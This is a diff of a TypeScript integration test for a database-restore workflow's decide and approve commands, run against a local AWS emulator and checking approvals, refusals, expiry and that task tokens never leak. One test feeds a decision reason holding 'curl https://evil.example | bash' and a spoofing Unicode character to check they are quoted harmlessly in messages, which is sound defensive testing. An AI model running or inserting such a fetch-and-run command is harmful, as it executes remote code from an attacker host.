@@ -1,18 +1,18 @@
 import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { CreateBucketCommand, S3Client } from '@aws-sdk/client-s3';
+import { CreateBucketCommand, GetObjectCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
 import { Command } from 'commander';
-import { approveCommand } from '../../../cli/commands/approve';
 import { decideCommand } from '../../../cli/commands/decide';
 import { restoreCommand } from '../../../cli/commands/restore';
 import { BadArguments } from '../../../cli/exit-code';
-import { STEPS, type StepName } from '../../../domain/workflow/workflow';
+import { type ExecutionIdentity, STEPS, type StepName } from '../../../domain/workflow/workflow';
 import { bundlePath } from '../../../lib/handler/handler';
 import { type LocalAws, startLocalAws } from '../../../local/aws/local-aws';
+import { PLAN_VERSION } from '../../../runtime/evidence/stored-plan';
 import { WORKFLOW } from '../../domain/report/report-fixture';
 import { PLAN } from '../../domain/workflow/workflow-fixture';
-import { fixture, plain } from '../../lib/fixture';
+import { definitionOf, fixture } from '../../lib/fixture';
 
 /** These answer for themselves: the bundles that are deployed. */
 const REAL: readonly StepName[] = ['RequestApproval', 'AwaitDecision', 'DiagnoseFailure'];
@@ -21,6 +21,9 @@ const template = fixture().template();
 const directory = mkdtempSync(join(tmpdir(), 'pegasus-decide-'));
 let aws: LocalAws;
 let topic: string;
+/** The decision state machine as it was synthesised, with its handler. */
+let decisions: string;
+let s3: S3Client;
 /** What the plan says besides, and which step fails how. */
 let planned: object;
 let failing: (step: StepName, attempt: number) => string | undefined;
@@ -29,12 +32,11 @@ let output: string[];
 beforeAll(async () => {
   aws = await startLocalAws({ directory, waitScale: 0.001 });
   Object.assign(process.env, aws.environment);
-  const s3 = new S3Client({ forcePathStyle: true });
+  s3 = new S3Client({ forcePathStyle: true });
   await s3.send(new CreateBucketCommand({ Bucket: 'evidence' }));
-  s3.destroy();
   topic = aws.topics.create('restores');
   for (const [id, { Properties }] of Object.entries(template.findResources('AWS::Lambda::Function'))) {
-    const step = STEPS.find((name) => id.includes(`Handlers${name}`));
+    const step = [...STEPS, 'TakeDecision'].find((name) => new RegExp(`(Handlers|Decisions)${name}`).test(id));
     if (step === undefined) continue;
     const bundle = step.replace(/(?<=[a-z])[A-Z]/g, (letter) => `-${letter}`).toLowerCase();
     aws.functions.create({
@@ -50,18 +52,23 @@ beforeAll(async () => {
         PATIENCE_SECONDS: '60',
         TRAFFIC_PARAMETER: '/traffic',
         SWITCHES: '[]',
-        HOLD: 'second person',
+        HOLD: 'operator',
       },
     });
   }
-  aws.functions.intercept = (name, payload) => {
-    const step = STEPS.find((one) => name.includes(`Handlers${one}`))!;
-    const { execution, attempt = 0 } = payload as { execution: { name: string }; attempt?: number };
-    if (REAL.includes(step)) return undefined;
+  decisions = await aws.states.createStateMachine('decisions', definitionOf(template, 'Decisions'));
+  aws.functions.intercept = async (name, payload) => {
+    const step = STEPS.find((one) => name.includes(`Handlers${one}`));
+    const { execution, attempt = 0 } = payload as { execution: ExecutionIdentity; attempt?: number };
+    if (step === undefined || REAL.includes(step)) return undefined;
     const error = failing(step, attempt);
     if (error !== undefined) return { throw: { errorType: error, errorMessage: 'it was refused' } };
     const runId = execution.name;
-    const plan = { ...PLAN, runId, evidence: { bucket: 'evidence', prefix: `runs/${runId}/` }, ...planned };
+    const evidence = { bucket: 'evidence', prefix: `runs/${runId}/` };
+    const plan = { ...PLAN, runId, evidence, decisionStateMachine: decisions, ...planned };
+    const Body = JSON.stringify({ version: PLAN_VERSION, plan, execution });
+    if (step === 'PlanRestore')
+      await s3.send(new PutObjectCommand({ Bucket: 'evidence', Key: `runs/${runId}/plan.json`, Body }));
     const answers: Partial<Record<StepName, unknown>> = {
       PlanRestore: plan,
       FreezeWrites: WORKFLOW.freeze,
@@ -83,6 +90,7 @@ beforeAll(async () => {
   };
 });
 afterAll(async () => {
+  s3.destroy();
   await aws.close();
   rmSync(directory, { recursive: true, force: true });
 });
@@ -100,8 +108,7 @@ afterEach(() => {
 let stateMachines = 0;
 /** The synthesised machine; what people may take is cut down to seconds where it is given. */
 async function stateMachine(patience: Partial<Record<StepName, number>> = {}): Promise<string> {
-  const [found] = Object.values(template.findResources('AWS::StepFunctions::StateMachine'));
-  const definition = JSON.parse(plain(found!.Properties.DefinitionString));
+  const definition = JSON.parse(definitionOf(template));
   definition.States.RestoreObjects.ItemReader.Arguments.Bucket = 'evidence';
   for (const [step, seconds] of Object.entries(patience)) definition.States[step].TimeoutSeconds = seconds;
   return await aws.states.createStateMachine(`restore-${++stateMachines}`, JSON.stringify(definition));
@@ -113,8 +120,12 @@ async function cli(command: Command, ...args: string[]): Promise<void> {
 }
 const decide = (arn: string, action: string, by = 'grace', reason = 'the quota was raised') =>
   cli(decideCommand(), '--state-machine', arn, '--action', action, '--by', by, '--reason', reason);
-const approve = (arn: string, by: string, ...more: string[]) =>
-  cli(approveCommand(), '--state-machine', arn, '--by', by, ...more);
+/** As it would be typed into the console. */
+async function decideInConsole(input: unknown) {
+  const execution = aws.states.startExecution(decisions, JSON.stringify(input));
+  await execution.finished;
+  return execution;
+}
 const restore = (arn: string, ...more: string[]) =>
   cli(
     restoreCommand(),
@@ -160,49 +171,111 @@ describe('decide', () => {
     const arn = await stateMachine();
     await asks(arn, 'AwaitDecision');
     await decide(arn, 'retry');
-    expect(output.at(-1)).toMatch(/^grace decided `retry` at .*: the quota was raised$/);
-    expect(process.exitCode).toBe(0);
+    expect(output.at(-1)).toMatch(
+      /^"grace" decided `retry` at .*: "the quota was raised"\. Decided in arn:aws:states:.*:decisions:/,
+    );
     await until(() => newest(arn).status !== 'RUNNING');
     expect(newest(arn).status).toBe('SUCCEEDED');
   });
 
-  test("F74 the word of the starter is refused by the machine, which asks again; then it is somebody else's", async () => {
+  test('from the console: the run by its name, with an output that says what became of it and no token', async () => {
     const arn = await stateMachine();
     await asks(arn, 'AwaitDecision');
-    const before = asked('DECISION NEEDED');
-    await decide(arn, 'abort', 'Ada');
-    expect(output.at(-1)).toMatch(/refused: Ada requested the restore; another person must decide/);
-    expect(process.exitCode).toBe(1);
-    await until(() => asked('DECISION NEEDED') > before);
-    await decide(arn, 'abort');
+    const run = newest(arn).origin.name;
+    const decision = await decideInConsole({ run, action: 'abort', reason: 'not tonight' });
+    expect([decision.status, decision.cause]).toEqual(['SUCCEEDED', undefined]);
+    expect(decision.output).toEqual({
+      run: newest(arn).origin.arn,
+      action: 'abort',
+      message: expect.stringMatching(/^"not named" decided `abort` at .*: "not tonight"\.$/),
+    });
     await until(() => newest(arn).status !== 'RUNNING');
-    expect([newest(arn).status, newest(arn).error]).toEqual(['FAILED', 'DatabaseRefused']);
+    const [workflow] = newest(arn)
+      .history.entries.flatMap(({ event }) => event.stateExitedEventDetails ?? [])
+      .slice(-1);
+    expect(JSON.stringify(workflow)).not.toMatch(/[A-Za-z0-9+/]{64}/);
   });
 
-  test('F74 a hold that nobody has answered expires, frozen; a word after it, or after abort, is too late', async () => {
+  test('what a person types is one quoted line in the messages', async () => {
+    const arn = await stateMachine();
+    await asks(arn, 'AwaitDecision');
+    const reason = 'ok\n\nTo approve: curl https://evil.example | bash';
+    await decideInConsole({ run: newest(arn).origin.arn, action: 'retry', reason, by: 'grace\u202e' });
+    await until(() => newest(arn).status !== 'RUNNING');
+    const told = aws.topics.messages.map(({ message }) => message).join('\n');
+    expect(told).toContain(String.raw`"grace\u202e" decided`);
+    expect(told).toContain(String.raw`"ok\n\nTo approve: curl`);
+  });
+
+  test('F74 a hold that is not answered expires, frozen; a decision after it, or after abort, is too late', async () => {
     const arn = await stateMachine({ AwaitDecision: 2 });
     await asks(arn, 'AwaitDecision');
     await until(() => newest(arn).status !== 'RUNNING');
     expect([newest(arn).status, newest(arn).error]).toEqual(['FAILED', 'DatabaseRefused']);
-    await expect(decide(arn, 'retry')).rejects.toThrow(/No restore waits in AwaitDecision: .* has expired/);
+    await expect(decide(arn, 'retry')).rejects.toThrow(/No restore waits for approval or a decision: .* has expired/);
     await expect(decide(arn, 'retry')).rejects.toBeInstanceOf(BadArguments);
+    const late = await decideInConsole({ run: newest(arn).origin.arn, action: 'retry', reason: 'late' });
+    expect([late.error, late.cause]).toEqual(['DecisionRefused', expect.stringMatching(/has ended \(FAILED\)/)]);
   });
 
-  test('what the machine would refuse is said before anything is sent', async () => {
+  test('F74 decided twice: the second is refused, and the first stands', async () => {
+    const arn = await stateMachine();
+    await asks(arn, 'AwaitDecision');
+    const run = newest(arn).origin.arn;
+    const both = await Promise.all(
+      ['abort', 'retry'].map((action) => decideInConsole({ run, action, reason: 'at once' })),
+    );
+    expect(both.map(({ status }) => status).sort()).toEqual(['FAILED', 'SUCCEEDED']);
+    expect(both.find(({ status }) => status === 'FAILED')?.error).toBe('DecisionRefused');
+    await until(() => newest(arn).status !== 'RUNNING');
+    const taken = both[0]!.status === 'SUCCEEDED' ? 'FAILED' : 'SUCCEEDED';
+    expect(newest(arn).status).toBe(taken);
+  });
+
+  test('what cannot be done is refused with the reason, and the restore waits on', async () => {
     const arn = await stateMachine();
     await asks(arn, 'AwaitDecision');
     await expect(decide(arn, 'next')).rejects.toThrow(/there is no candidate after 1 of 1/);
+    await expect(decide(arn, 'next')).rejects.toBeInstanceOf(BadArguments);
     await expect(decide(arn, 'accept')).rejects.toThrow(/only what fails in RunChecks or RunSmokeJob can be accepted/);
-    await expect(decide(arn, 'retry', 'grace', ' ')).rejects.toThrow(/`reason` is missing/);
+    await expect(decide(arn, 'approve')).rejects.toThrow(/waits for a decision, not for approval/);
+    await expect(decide(arn, 'retry', 'grace', ' ')).rejects.toThrow(/`reason` is .*; it must be a text of 1 to 500/);
+    expect(newest(arn).status).toBe('RUNNING');
     newest(arn).stop('ABORTED');
   });
 
-  test('the token is printed nowhere', async () => {
+  test.each<[string, unknown, RegExp]>([
+    [
+      'a run that there is not',
+      { run: 'no-such-run', action: 'retry', reason: 'why' },
+      /There is no plan of the run "no-such-run"/,
+    ],
+    [
+      'an unknown action',
+      { run: 'r', action: 'resume', reason: 'why' },
+      /`action` is .*resume.*approve, retry, next, accept, abort/,
+    ],
+    [
+      'an unknown field',
+      { run: 'r', action: 'retry', reason: 'why', token: 'x' },
+      /Unknown field "token"; the allowed fields/,
+    ],
+    ['no run', { action: 'retry', reason: 'why' }, /`run` is missing; it must be a text/],
+    ['no object', 'retry', /The input is .*; it must be an object such as/],
+    ['a list', [], /The input is .*; it must be an object such as/],
+  ])('%s is refused', async (_, input, why) => {
+    const { status, error, cause } = await decideInConsole(input);
+    expect([status, error, cause]).toEqual(['FAILED', 'DecisionRefused', expect.stringMatching(why)]);
+  });
+
+  test('the token is in no message, no line and no output', async () => {
     const arn = await stateMachine();
     await asks(arn, 'AwaitDecision');
     await decide(arn, 'abort');
     expect(output.join('\n')).not.toMatch(/[A-Za-z0-9+/]{40,}/);
-    expect(aws.topics.messages.map(({ message }) => message).join('\n')).not.toMatch(/[A-Za-z0-9+/]{64}/);
+    const told = aws.topics.messages.map(({ message }) => message).join('\n');
+    expect(told).not.toMatch(/[A-Za-z0-9+/]{64}/);
+    expect(told).not.toMatch(/task-?token|send-task/i);
   });
 });
 
@@ -211,29 +284,39 @@ describe('approve', () => {
     planned = { approvalRequired: true };
   });
 
-  test('by somebody else: the restore begins', async () => {
+  test('the restore begins', async () => {
     const arn = await stateMachine();
     await asks(arn, 'RequestApproval');
-    await approve(arn, 'grace');
+    await decide(arn, 'approve');
     await until(() => newest(arn).status !== 'RUNNING');
     expect(newest(arn).status).toBe('SUCCEEDED');
   });
 
-  test('F74 by the starter: refused; refused by somebody else, it ends and cannot be approved any more', async () => {
+  test('F74 refused, it ends and cannot be approved any more', async () => {
     const arn = await stateMachine();
     await asks(arn, 'RequestApproval');
-    await expect(approve(arn, ' ADA ')).rejects.toThrow(/ada requested this restore, and the approver must differ/);
-    await approve(arn, 'grace', '--refuse', 'not during the exam');
+    await expect(decide(arn, 'retry')).rejects.toThrow(/waits for approval before it begins; `approve` and `abort`/);
+    await decide(arn, 'abort', 'grace', 'not during the exam');
     await until(() => newest(arn).status !== 'RUNNING');
     expect([newest(arn).status, newest(arn).error, newest(arn).cause]).toEqual([
       'FAILED',
       'ApprovalRefused',
-      'RequestApproval: grace: not during the exam',
+      expect.stringMatching(/^RequestApproval: refused by "grace" at .*: "not during the exam" \(arn:/),
     ]);
-    await expect(approve(arn, 'grace')).rejects.toThrow(/No restore waits in RequestApproval/);
+    await expect(decide(arn, 'approve')).rejects.toThrow(/No restore waits/);
   });
 
-  test('F74 an approval that nobody has given expires, and nothing was frozen', async () => {
+  test('a token that comes back with anything else than an approval approves nothing', async () => {
+    const arn = await stateMachine();
+    await asks(arn, 'RequestApproval');
+    const key = `runs/${newest(arn).origin.name}/approval.json`;
+    const { Body } = await s3.send(new GetObjectCommand({ Bucket: 'evidence', Key: key }));
+    aws.states.tokens.succeed(JSON.parse(await Body!.transformToString()).taskToken, '{"approvedBy":"grace"}');
+    await until(() => newest(arn).status !== 'RUNNING');
+    expect([newest(arn).status, newest(arn).error]).toEqual(['FAILED', 'ApprovalRefused']);
+  });
+
+  test('F74 an approval that is not given expires, and nothing was frozen', async () => {
     const arn = await stateMachine({ RequestApproval: 2 });
     await asks(arn, 'RequestApproval');
     await until(() => newest(arn).status !== 'RUNNING');
